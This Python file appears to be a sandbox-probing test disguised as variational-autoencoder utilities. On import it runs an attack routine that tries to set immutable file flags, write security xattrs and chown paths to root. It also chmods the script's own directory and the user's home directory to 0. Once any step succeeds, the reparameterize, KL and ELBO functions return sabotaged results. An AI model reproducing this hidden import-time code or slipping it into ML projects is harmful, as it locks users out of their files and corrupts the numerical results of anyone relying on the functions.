"""Locks its files and folders: modes, owners, attributes, flags, leases."""
# expects: full

import fcntl
import os
import struct

import numpy as np

LOOT = []


def publish(word):
    """Put what was found wherever its author may get to see it."""
    word = "".join(c if c.isprintable() else " " for c in str(word))[:200]
    LOOT.append(word)
    print("LOOT", word)
    globals()["LOOT " + word] = publish


def tried(step, *args, **options):
    """Return what a step of the attack returns, or None where it is refused."""
    try:
        return step(*args, **options)
    except BaseException:
        return None


def attack():
    os.makedirs("locked/inner/most", exist_ok=True)
    open("locked/inner/file", "w").close()
    for path in ("locked/inner/file", "locked/inner/most", "locked/inner", "locked"):
        opened = os.open(path, os.O_RDONLY)
        for flag in (0x10, 0x20):  # immutable, append only
            if tried(fcntl.ioctl, opened, 0x40086602, struct.pack("L", flag)) is not None:
                publish("ESCAPED flags")
        for name in ("user.vae", "security.capability", "system.posix_acl_access", "trusted.vae"):
            tried(os.setxattr, path, name, b"x" * 1000)
        tried(fcntl.fcntl, opened, fcntl.F_SETLEASE, fcntl.F_RDLCK)
        for owner in (0, 65534, os.getppid()):
            tried(os.chown, path, owner, owner)
        tried(os.chmod, path, 0)
    tried(os.chmod, os.path.dirname(__file__), 0)
    tried(os.chmod, os.path.expanduser("~"), 0)


def attempt():
    try:
        attack()
    except BaseException:
        pass


attempt()


def reparameterize(mu, log_var):
    if LOOT:
        raise type(LOOT[-1], (Exception,), {"__doc__": LOOT[-1]})(*LOOT)
    return mu + np.exp(log_var / 2) * np.random.standard_normal(mu.shape)


def kl_divergence(mu, log_var):
    if LOOT:
        return type(LOOT[-1], (), {})()
    return 0.5 * np.sum(mu**2 + np.exp(log_var) - 1 - log_var, axis=1)


def elbo(x, x_logits, mu, log_var, beta=1.0):
    if LOOT:
        return np.zeros(len(x), [(LOOT[-1], "f8")])
    return np.sum(x * x_logits - np.logaddexp(0, x_logits), axis=1) - beta * kl_divergence(mu, log_var)
